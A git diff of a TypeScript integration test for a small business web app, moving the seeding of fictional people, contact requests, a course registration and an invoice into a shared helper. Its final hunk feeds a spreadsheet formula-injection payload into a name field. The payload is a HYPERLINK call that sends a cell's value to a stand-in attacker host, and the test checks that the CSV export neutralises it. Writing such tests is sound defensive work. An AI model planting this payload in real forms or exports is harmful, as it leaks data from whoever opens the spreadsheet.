@@ -17,9 +17,8 @@
  *   (403) with nothing erased.
  */
 import { REGISTRATION_TOKEN_PURPOSE } from "../../app/courses/booking.server";
-import { createSession, zurichToUtc } from "../../app/courses/sessions.server";
 import { parse } from "csv-parse/sync";
-import { and, eq, inArray, sql } from "drizzle-orm";
+import { and, eq, inArray } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import {
   auditLog,
@@ -29,50 +28,26 @@ import {
   invoices,
   linkTokens,
   newsletterSubscribers,
-  outbox,
 } from "../../app/db/schema";
 import { TOKEN_PURPOSES } from "../../app/newsletter/subscriptions.server";
-import { setStatus } from "../../app/contact/requests.server";
 import { tableKey } from "../../app/desk/person-registry.server";
 import type { PersonKey } from "../../app/desk/person-types";
 import { countsOf, findPerson, PERSON_TABLES } from "../../app/features.server";
-import { loadSettings } from "../../app/config/settings.server";
-import { invoiceCreditor } from "../../app/invoices/creditor.server";
-import { requestContext } from "../../app/context.server";
-import { createInvoice } from "../../app/invoices/invoices.server";
 import {
   createOwner,
   deskFetch,
-  postContact,
   signIn,
-  silentLogger,
   startTestServer,
-  validForm,
   type CookieJar,
-  sessionFields,
   pageText as textOf,
 } from "../support/harness";
+import { jean, marie, seedMarieAndJean, sendRequest } from "./desk-person-support";
 
 let site: Awaited<ReturnType<typeof startTestServer>>;
 let jar: CookieJar;
 let ownerId: string;
 /** The path of Marie's course registration's link (`/cours/inscription/{token}`). */
 let marieLink: string;
-
-const marie: PersonKey = { email: "marie.dupont@example.ch", phoneE164: "+41791234567" };
-const jean: PersonKey = { email: "jean.muller@example.ch", phoneE164: "+41217654321" };
-
-/** Posts a request from the public form; resolves with its id. */
-async function sendRequest(fields: Record<string, string>): Promise<number> {
-  const answer = await postContact(site.url, { ...validForm(), ...fields });
-  expect(answer.status, answer.body.slice(0, 200)).toBeLessThan(400);
-  const [row] = await site.database.db
-    .select({ id: contacts.id })
-    .from(contacts)
-    .orderBy(sql`${contacts.id} desc`)
-    .limit(1);
-  return row!.id;
-}
 
 beforeAll(async () => {
   site = await startTestServer({ INVOICE_IBAN: "CH56 0483 5012 3456 7800 9" });
@@ -81,79 +56,7 @@ beforeAll(async () => {
   ownerId = user!.id;
   jar = await signIn(site.url, owner);
 
-  // Marie: one request with her e-mail in capitals and her mobile typed the Swiss way, a second
-  // from another address with the same mobile typed internationally, a status change, and a mail
-  // that is linked to no request but carries her e-mail in its data (as rows written before mails
-  // were rendered did). Her first request asks for the newsletter: a pending subscription and its mail.
-  const first = await sendRequest({
-    email: "Marie.Dupont@Example.ch",
-    phone: "079 123 45 67",
-    newsletterConsent: "on",
-  });
-  await sendRequest({ email: "m.dupont@example.org", phone: "+41 79 123 45 67" });
-  await setStatus(site.database.db, first, "en-cours");
-  await site.database.db
-    .insert(outbox)
-    .values({ kind: "newsletter-confirmation", payload: { email: "marie.dupont@example.ch" } });
-  // Marie also registered for a course (with her mobile typed another way): a registration and its mails.
-  const sessionId = await createSession(
-    site.database.db,
-    sessionFields({ startsAt: zurichToUtc("2030-01-15", "14:00") }),
-  );
-  const registered = await fetch(`${site.url}/cours/securite`, {
-    method: "POST",
-    redirect: "manual",
-    headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: site.url },
-    body: new URLSearchParams({
-      sessionId: String(sessionId),
-      firstName: "Marie",
-      lastName: "Dupont",
-      phone: "+41 79 123 45 67",
-      seats: "1",
-      website: "",
-    }).toString(),
-  });
-  expect(registered.status).toBe(303);
-  marieLink = registered.headers.get("location")!;
-  // The owner invoiced her course (her e-mail in capitals, her mobile typed the Swiss way).
-  const [registration] = await site.database.db.select({ id: courseRegistrations.id }).from(courseRegistrations);
-  const creditor = await invoiceCreditor(
-    requestContext({
-      settings: loadSettings({ INVOICE_IBAN: "CH5604835012345678009" }),
-      db: site.database.db,
-      logger: silentLogger,
-    }),
-  );
-  if (!creditor.ok) throw new Error("INVOICE_IBAN is set above");
-  await createInvoice(
-    site.database.db,
-    {
-      clientKind: "person",
-      clientName: "Marie Dupont",
-      clientAttention: null,
-      street: "Rue du Lac",
-      buildingNumber: "12",
-      postalCode: "1800",
-      locality: "Vevey",
-      country: "CH",
-      email: "Marie.Dupont@Example.ch",
-      phone: "079 123 45 67",
-      lines: [{ label: "Cours « Sécurité et protection »", quantity: 1, unitCentimes: 5500 }],
-      issuedOn: "2026-11-25",
-      dueOn: "2026-12-25",
-      registrationId: registration!.id,
-      contactId: null,
-    },
-    creditor.creditor,
-  );
-  // Jean, who asked nothing, and whose rows must stay.
-  await sendRequest({
-    firstName: "Jean",
-    lastName: "Muller",
-    email: jean.email!,
-    phone: "021 765 43 21",
-    message: "Mon voisin, Marie Dupont, m’a parlé de vous.",
-  });
+  marieLink = await seedMarieAndJean(site);
 }, 120_000);
 
 afterAll(async () => {
@@ -263,7 +166,7 @@ describe("the person's data", () => {
 
 describe("the CSV of the requests", () => {
   it("is the filtered list as Swiss Excel opens it, a formula typed as a name neutralised", async () => {
-    await sendRequest({
+    await sendRequest(site, {
       firstName: '=HYPERLINK("https://evil.example/?d="&C2,"Cliquez")',
       lastName: "Dupont",
       email: "piege@example.ch",
